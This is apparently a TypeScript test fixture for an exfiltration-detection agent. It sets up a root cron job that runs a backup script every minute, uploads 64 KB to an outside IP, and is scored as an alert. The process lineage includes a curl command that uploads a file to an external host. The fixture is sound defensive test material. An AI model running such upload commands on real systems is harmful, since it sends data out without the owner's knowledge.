/** A finding that tests vary: a backup script that cron starts each minute sends 64 KB outside. */
import type { AlertFinding } from '../../agent/alert/alert-input.ts'
import type { HostFacts } from '../../agent/alert/host-facts.ts'
import type { Transfer } from '../../agent/correlate/transfer.ts'
import type { Assessment, Period } from '../../agent/detect/assessment.ts'
import type { RawRiskOptions } from '../../agent/detect/risk-options.ts'
import type { RiskInput } from '../../agent/detect/risk-types.ts'
import type { Schedule } from '../../platform/event.ts'
import type { SeriesIdentity } from '../../storage/series.ts'

export const MINUTE_MS = 60_000
export const DAY_MS = 86_400_000
export const START_MS = Date.parse('2026-03-02T04:00:00Z')

export const rawOptions: RawRiskOptions = {
  destIpAllowlist: [],
  parentProcessBaseline: [],
  scriptPathRegex: [],
  cronIntervalThreshold: { minMs: 1_000, maxMs: 32 * DAY_MS },
  exfilUserContext: [],
  agentPathPatterns: [],
  repeatIntervalDelta: 0.6,
  userHomeJobs: 'raise',
  minRisk: 40,
}

export const minutely: Period = {
  periodMs: MINUTE_MS,
  model: 'clock',
  form: 'every 60 s',
  jitter: 0.01,
  missedRatio: 0,
  beats: 12,
}

export const assessment: Assessment = {
  verdict: 'recurring',
  score: 0.98,
  periods: [minutely],
  form: 'every 60 s',
  observations: 12,
  firstMs: START_MS,
  lastMs: START_MS + 11 * MINUTE_MS,
  next: { atMs: START_MS + 12 * MINUTE_MS, toleranceMs: 2_000 },
  evidence: [
    { name: 'rayleigh', value: 0.99, meaning: 'Beats keep their phase', weight: 7.1, pValue: 1e-9 },
  ],
}

export const cronJob: Schedule = {
  id: 'cron:6b1f',
  scheduler: 'cron',
  trigger: '* * * * *',
  command: '/opt/backup.sh',
  user: { id: '0', name: 'root' },
  file: '/etc/cron.d/backup',
  line: 3,
}

export const identity: SeriesIdentity = {
  key: '5f2c9a7be1d04c33',
  actor: '/opt/backup.sh',
  userId: '0',
  destinationIp: '203.0.113.9',
  destinationPort: 443,
  transport: 'tcp',
}

export const transfer: Transfer = {
  seriesKey: identity.key,
  startMs: START_MS,
  endMs: START_MS,
  connections: 1,
  actor: '/opt/backup.sh',
  user: { id: '0', name: 'root' },
  sourceIp: '198.51.100.4',
  destination: { ip: '203.0.113.9', port: 443 },
  transport: 'tcp',
  lineage: [
    {
      entityId: 'e3',
      pid: 813,
      executable: '/usr/bin/curl',
      name: 'curl',
      args: ['curl', '-T', '/var/backup.tgz', 'https://203.0.113.9/up'],
    },
    {
      entityId: 'e2',
      pid: 812,
      executable: '/bin/sh',
      name: 'sh',
      args: ['/bin/sh', '/opt/backup.sh'],
    },
    { entityId: 'e1', pid: 1, executable: '/usr/sbin/cron', name: 'cron' },
  ],
  schedule: cronJob,
  datasets: ['linux.audit'],
}

export const volume = {
  runs: 12,
  sentBytesMedian: 65_536,
  sentBytesMax: 66_000,
  sentBytesTotal: 12 * 65_536,
  receivedBytesMedian: 400,
  sentShare: 0.99,
}

export const riskInput: RiskInput = {
  assessment,
  identity,
  transfer,
  volume,
  destinationFirstSeenMs: START_MS,
  destinationActors: 1,
  nowMs: START_MS + 11 * MINUTE_MS,
  platform: 'linux',
}

/** An address that talks to another, as a recording of a network knows it. */
export const networkInput = (port: number, changes: Partial<RiskInput> = {}): RiskInput => ({
  assessment,
  identity: { key: 'n', destinationIp: '203.0.113.9', destinationPort: port, transport: 'udp' },
  nowMs: START_MS,
  platform: 'network',
  ...changes,
})

export const host: HostFacts = {
  id: '3d1219c7c4c5404aaa1f6d2a48adfda4',
  name: 'web-1',
  hostname: 'web-1',
  architecture: 'x86_64',
  os: {
    type: 'linux',
    platform: 'linux',
    name: 'Debian GNU/Linux',
    version: '12',
    kernel: '6.1.0-28-amd64',
    family: 'debian',
  },
  ip: ['198.51.100.4', '2001:db8::4'],
  mac: ['02-FC-00-00-00-01'],
}

export const finding: AlertFinding = {
  identity,
  assessment,
  risk: {
    score: 82,
    disposition: 'alert',
    analytic: 'AN1119',
    factors: [
      {
        name: 'started_by_schedule',
        value: 'cron',
        meaning: 'A scheduled job started it',
        weight: 15,
      },
    ],
  },
  transfer,
  volume,
  host,
  platform: 'linux',
}
